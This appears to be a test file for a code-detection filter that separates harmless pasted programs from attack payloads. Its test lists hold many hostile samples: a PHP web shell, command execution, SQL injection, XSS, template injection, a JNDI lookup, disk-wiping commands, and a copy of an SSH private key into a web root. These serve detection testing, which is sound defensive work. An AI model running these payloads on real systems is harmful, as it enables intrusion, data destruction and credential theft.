import { describe, expect, it } from 'vitest';
import { isQuotedProgram } from '../../src/model/quoted-program.js';
import { maskQuotedCode } from '../../src/model/quoted-code.js';

const JAVA_RESOURCE = 'try (InputStream in = getClass().getClassLoader().getResourceAsStream("application.properties")) {\n    Properties p = new Properties();\n    p.load(in);\n}';

// Programs as developers paste them into gists, snippet APIs, issue comments and chat code blocks.
const PROGRAMS = [
  JAVA_RESOURCE,
  "const S = require('fluent-json-schema')\n\n// You can have an object like this, or query a DB to get the values\nconst MY_KEYS = {\n  KEY1: 'ONE',\n  KEY2: 'TWO'\n}\n\n// Note that there is no need to call `.valueOf()`!\nconst schema = S.object().prop('name', S.string())",
  'def handler(event, context):\n    name = event.get("name", "world")\n    return {"body": name}\n',
  '/(cat|dog)\\1/.test("catcat"); // true\n/(cat|dog)\\1/.test("catdog"); // false',
  'func main() {\n\tvalues := []int{1, 2, 3}\n\tfmt.Println(len(values))\n}',
  // Statements with an operand after a keyword or an operator are code, not shell commands.
  'int parse(String s) {\n    if (s.isEmpty()) return -1;\n    total = sum - count;\n    return total;\n}',
  'function ratio(a, b) {\n  const r = a / b;\n  return -r;\n}',
];

// Payloads in several lines, and programs that call what an exploit needs: each is still scored.
const NOT_PROGRAMS = [
  '<?php\nsystem($_GET["c"]);\n?>',
  'x = 1;\nRuntime.getRuntime().exec("id");\n',
  'Class c = Class.forName("java.lang.Runtime");\nObject o = c.getMethod("getRuntime").invoke(null);',
  "a');\nDROP TABLE users;\n--",
  '${T(java.lang.Runtime).getRuntime()}\nfoo();',
  "x = '1' or '1'='1';\ny = call();",
  "value = 1;\nother = 'a' + 'b';\nwhere = '1' OR '1'='1';",
  '<script>\nalert(document.cookie);\n</script>',
  'user_count = 1;\nid;\nnext_value = 2;',
  '{\n"__proto__": {"isAdmin": true}\n}',
  "const cp = require('child_process');\ncp.execSync('id');",
  "this.constructor.constructor('return process')();\nfoo();",
  'import os\nos.system("id")\n',
  "{{ ''.__class__.__mro__[1].__subclasses__() }}\nfoo();",
  'ctx = new InitialContext();\nctx.lookup("ldap://x.example/a");',
  'a = `id`;\nb = c();',
  'String s = "a\';\nb();',
  'one line only();',
  // Shell commands written as statements, one a line (found by the lead: these passed for programs and were not scored).
  'a;\ncat /etc/passwd;\n',
  'x();\nmore /etc/passwd;\n',
  '1;\ntouch /tmp/pwned;\nls -la /;\n',
  'a;\nmkfs.ext4 /dev/sda1;\n',
  'ok();\nkill -9 -1;\n',
  'x;\nsudo -l;\nrun();',
  'go();\ndd if=/dev/zero of=/dev/sda;\n',
  'f(1);\ncp ~/.ssh/id_rsa /var/www/html/k.txt;\n',
  // Prose is no program: a comma or a colon alone does not end a statement.
  'Dear team,\nthe meeting is moved to 3pm.\nThanks,\nAna',
];

describe('isQuotedProgram', () => {
  it.each(PROGRAMS)('reads %s as a quoted program', (s) => {
    expect(isQuotedProgram(s)).toBe(true);
  });

  it.each(NOT_PROGRAMS)('does not read %s as one', (s) => {
    expect(isQuotedProgram(s)).toBe(false);
  });

  it('refuses a literal glued to a name after it, and a literal naming a file only an exploit reads (session 33 carriers)', () => {
    expect(isQuotedProgram('(())\n()()\n" onmouseover="alert(1);\n')).toBe(false);
    expect(isQuotedProgram("=IF(B2>100,\"high\",\"low\")\nres.end(require('fs').readdirSync('/proc/self/environ').toString());\n")).toBe(false);
    expect(isQuotedProgram("const rows = load('data/users.csv');\nconsole.log(rows.length);\n")).toBe(true);
    expect(isQuotedProgram('x = read("config/app.yml")\nprint(x)\nif ok("a") and ready():\n    go()\n')).toBe(true);
  });
});

describe('maskQuotedCode with programs', () => {
  it("takes a quoted program out of a chat message's fence and says so", () => {
    const found = { multiLine: false };
    expect(maskQuotedCode(`anyone seen this? \`\`\`${JAVA_RESOURCE}\`\`\``, found)).toBe('anyone seen this?  ');
    expect(found.multiLine).toBe(true);
  });

  it('keeps a fence holding an exploit, and a fence of SQL sets no program flag', () => {
    const found = { multiLine: false };
    const exploit = '```java\nx = 1;\nRuntime.getRuntime().exec("id");\n```';
    expect(maskQuotedCode(exploit, found)).toBe(exploit);
    expect(maskQuotedCode("```sql\nSELECT id FROM orders WHERE status = 'paid';\n```", found)).toBe(' ');
    expect(found.multiLine).toBe(false);
  });
});
